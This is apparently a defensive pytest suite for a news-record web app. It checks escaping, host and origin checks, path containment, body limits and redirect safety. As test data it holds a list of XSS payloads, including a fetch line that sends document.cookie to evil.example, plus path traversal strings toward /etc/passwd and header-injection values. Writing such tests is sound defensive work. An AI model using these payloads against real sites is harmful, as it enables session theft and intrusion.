# ruff: noqa: E501
"""Attacks on the pages: scripts in reports, forged hosts and sites, bodies without end."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from pathlib import Path

import anyio
import pytest

pytest.importorskip("fastapi", reason="the extra `serve` is not installed")

from starlette.testclient import TestClient

from dragoman import load
from dragoman.errors import SettingsError
from dragoman.record import Record
from dragoman.web import Options, create

HERE = "http://127.0.0.1:8765"
RUNS = ("alert(1)", "fetch('//evil.example/'+document.cookie)")
CARRIERS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT >", "<scr<script>ipt>{}</script>", "<img src=x onerror={}>",
    "<img/src=x/onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<math><mtext></p><style><img onerror={}>",
    '"><script>{}</script>', "'><script>{}</script>", '" onmouseover="{}', "' onfocus='{}' autofocus='",
    "<a href='javascript:{}'>x</a>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>", "<details open ontoggle={}>", "<form action=javascript:{}><button>", "<base href='//evil.example/{}'>",
    "<meta http-equiv=refresh content='0;javascript:{}'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</pre><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "{{{{ {} }}}}", "{{% print({}) %}}", "<style>@import 'javascript:{}'</style>",
)  # fmt: skip
PAYLOADS = [carrier.format(runs) for carrier, runs in product(CARRIERS, RUNS)]
SCHEMES = ("javascript:", "data:text/html,", "vbscript:", " javascript:", "JaVaScRiPt:", "//evil.example/")


class Strict(HTMLParser):
    """What a page of ours may not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        held = dict(attrs)
        if tag in {"iframe", "object", "embed", "base", "math", "style"}:
            self.wrong.append(tag)
        if tag == "script" and held.get("src") != "/static/script.js":
            self.wrong.append(f"script {held}")
        if tag == "meta" and "http-equiv" in held:
            self.wrong.append("refresh")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.wrong.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction", "xlink:href"}:
                own = (value or "").startswith(("#", "?")) or ((value or "")[:1] == "/" and (value or "")[1:2] != "/")
                if not own:
                    self.wrong.append(f"{tag} {name}={value}")


def wrong_in(page: str) -> list[str]:
    parser = Strict()
    parser.feed(page)
    return parser.wrong


@pytest.fixture(scope="module")
def where(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("attacked") / "record"
    reader = load(encoder=False)
    with Record(folder) as record:
        record.add(
            *[
                reader.read_text(
                    f"Turkey accused {evil} of shelling Idlib on Sunday. {evil} denied it, Russia said.",
                    id=f"r{n}", published="2021-05-03", title=evil, publisher=evil, author=evil,
                    url=SCHEMES[n % len(SCHEMES)] + evil,
                )
                for n, evil in enumerate(PAYLOADS)
            ]
        )  # fmt: skip
    return folder


@pytest.fixture(scope="module")
def client(where: Path) -> Iterator[TestClient]:
    with TestClient(create(str(where)), base_url=HERE, raise_server_exceptions=False) as made:
        yield made


def test_the_corpus_holds_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == 60
    assert sum(bool(wrong_in(p)) for p in PAYLOADS) > 40  # the parser sees them where they are not escaped


PAGES = (
    "/", "/events?status=any", "/happenings?status=any", "/disputes", "/actors", "/processes", "/map", "/network",
    "/reports", "/reports?page=2", "/review?status=any", "/read", "/api", "/places?place=Idlib", "/nothing",
)  # fmt: skip


@pytest.mark.parametrize("path", PAGES)
def test_no_page_lets_a_report_write_markup(client: TestClient, path: str) -> None:
    assert wrong_in(client.get(path).text) == []


def test_no_report_or_happening_lets_its_words_become_markup(client: TestClient) -> None:
    for n in range(0, len(PAYLOADS), 3):
        assert wrong_in(client.get(f"/reports/r{n}").text) == []
    for found in client.get("/api/happenings?limit=5").json()["happenings"]:
        assert wrong_in(client.get(f"/happenings/{found['id']}").text) == []


@pytest.mark.parametrize("evil", PAYLOADS[::7])
def test_no_address_writes_markup_into_a_page(client: TestClient, evil: str) -> None:
    for path in ("/events", "/actors", "/map", "/places", "/review", "/api/events"):
        for name in ("actor", "name", "view", "order", "since", evil):
            answer = client.get(path, params={name: evil})
            assert answer.status_code < 500
            if answer.headers["content-type"].startswith("text/html"):
                assert wrong_in(answer.text) == []
    assert wrong_in(client.get(f"/reports/{evil}").text) == []


HOSTS = (
    "evil.example",
    "127.0.0.1.evil.example:8765",
    "localhost:80",
    "127.0.0.1",
    "",
    "127.0.0.1:8765@evil",
    "[::]:8765",
)


@pytest.mark.parametrize("host", HOSTS)
def test_forged_and_rebound_hosts_are_refused(client: TestClient, host: str) -> None:
    assert client.get("/events", headers={"host": host}).status_code == 421


@pytest.mark.parametrize("path", ("/review", "/read", "/looked", "/api/read", "/api/corrections"))
@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://evil.example"}, {"origin": "null"}, {"origin": "http://127.0.0.1:8765.evil.example"},
        {"origin": "file://127.0.0.1:8765"}, {"sec-fetch-site": "cross-site"}, {"sec-fetch-site": "same-site"}, {},
    ],
)  # fmt: skip
def test_posts_of_other_sites_change_nothing(client: TestClient, path: str, headers: dict[str, str]) -> None:
    sent = {"text": "x", "event": "x", "action": "accept", "who": "x", "form": "guessed"}
    answer = (
        client.post(path, json=sent, headers=headers)
        if "api" in path
        else client.post(path, data=sent, headers=headers)
    )
    assert answer.status_code == 403


@pytest.mark.parametrize("up", ["../", "..%2f", "%2e%2e/", "..\\", "....//", "%00", "/etc/passwd"])
@pytest.mark.parametrize("root", ["/static/", "/reports/", "/pictures/", "/api/reports/"])
def test_no_path_leaves_the_package(client: TestClient, root: str, up: str) -> None:
    answer = client.get(root + up * 8 + "etc/passwd")
    assert answer.status_code < 500 and "root:" not in answer.text


def test_huge_bodies_end_at_the_limit_with_and_without_a_length(client: TestClient) -> None:
    def endless() -> Iterator[bytes]:
        for _ in range(100):
            yield b"a" * 100_000

    kind = {"origin": HERE, "content-type": "application/x-www-form-urlencoded"}
    assert client.post("/read", content=endless(), headers=kind).status_code == 413
    assert client.post("/api/read", content=endless(), headers=kind | {"content-type": "application/json"}).status_code == 413
    assert client.post("/read", content=b"a", headers={"content-length": "9" * 12}).status_code == 413


def test_a_body_that_never_ends_is_given_up(where: Path) -> None:
    app = create(str(where), Options(seconds=0.2))
    sent: list[int] = []

    async def slow() -> dict[str, object]:
        await anyio.sleep(5)
        return {"type": "http.request", "body": b"a", "more_body": True}

    async def keep(message: dict[str, object]) -> None:
        if message["type"] == "http.response.start":
            sent.append(int(str(message["status"])))

    async def ask() -> None:
        headers = [(b"host", b"127.0.0.1:8765"), (b"content-type", b"application/x-www-form-urlencoded")]
        scope = {
            "type": "http", "method": "POST", "path": "/read", "raw_path": b"/read", "query_string": b"",
            "headers": headers, "http_version": "1.1", "scheme": "http", "root_path": "", "client": None, "server": None,
        }  # fmt: skip
        with anyio.fail_after(3):
            await app(scope, slow, keep)

    anyio.run(ask)
    assert sent == [408]


def test_the_token_is_kept_from_scripts_other_sites_and_later_addresses(where: Path) -> None:
    with pytest.raises(SettingsError, match="token"):
        create(str(where), Options(host="0.0.0.0"))
    with pytest.raises(SettingsError, match="letters"):
        create(str(where), Options(token="a; Domain=evil.example"))
    app = create(str(where), Options(token="s3cret"))
    with TestClient(app, base_url=HERE, follow_redirects=False) as client:
        entered = client.get("/enter?token=s3cret")
        cookie = entered.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and entered.headers["location"] == "/"


@pytest.mark.parametrize(
    "onward", ["//evil.example", "https://evil.example", "/\\evil.example", "/review\r\nx: y", "/reviewer"]
)
def test_a_decision_never_leads_to_another_site(client: TestClient, onward: str) -> None:
    import re

    key = client.get("/api/events", params={"status": "any", "limit": 1}).json()["events"][0]["id"]
    found = re.search(r'name="form" value="([^"]+)"', client.get("/review?status=any").text)
    assert found
    sent = {"form": found[1], "event": key, "action": "accept", "who": "Rana", "onward": onward}
    answer = client.post("/review", data=sent, headers={"origin": HERE}, follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (303, "/review") and "x" not in answer.headers
